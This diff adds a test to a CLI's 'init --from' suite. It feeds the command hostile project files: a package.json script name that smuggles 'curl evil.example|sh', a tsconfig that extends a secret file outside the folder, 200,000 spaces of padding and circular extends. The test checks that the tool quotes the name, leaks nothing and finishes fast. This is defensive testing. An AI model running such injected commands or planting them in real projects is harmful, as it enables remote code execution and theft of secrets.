@@ -69,6 +69,28 @@ test('init --from does not follow links out of the folder', () => {
   console.log(`init --from: 0 of 4 links out of the folder copied, ${Math.round(took)} ms`);
 });
 
+test('init --from reads hostile sources and settings quickly, and quotes names in commands', () => {
+  const { folder, from } = foreignFolder();
+  mkdirSync(join(from, 'dist'));
+  const secret = { compilerOptions: { canary } };
+  writeFileSync(join(folder, 'home/secret.json'), JSON.stringify(secret));
+  const script = 'build; curl evil.example|sh; # api-client';
+  const files = {
+    'index.ts': `import { createIntegration } from '@acme/runtime';\nimport './api-client';\nconst installation = 1;\ninstallation${' '.repeat(200_000)}x\nexport default createIntegration({});\n`,
+    'package.json': JSON.stringify({ scripts: { [script]: 'gen api-client', dev: 5 } }),
+    'tsconfig.json': JSON.stringify({ extends: ['./dist/base.json', '../home/secret.json'] }),
+    'dist/base.json': JSON.stringify({ extends: Array.from({ length: 40 }, () => './base.json') }),
+  };
+  for (const [path, text] of Object.entries(files)) writeFileSync(join(from, path), text);
+  const { status, output, took } = run(folder, ['init', 'mine', '--from', 'from', '--yes']);
+  expect([status, output]).toEqual([0, expect.stringContaining(`\n  npm run '${script}'\n`) as string]);
+  expect(readFileSync(join(folder, 'mine/tsconfig.json'), 'utf8')).not.toContain(canary);
+  expect(took).toBeLessThan(5000);
+  console.log(
+    `init --from 200,000 spaces, 40 bases in a circle, a forged script name: ${Math.round(took)} ms`,
+  );
+});
+
 test('init --from refuses a folder that is too large within 5 s, and writes nothing', () => {
   const large = foreignFolder();
   writeFileSync(join(large.from, 'large.bin'), '');
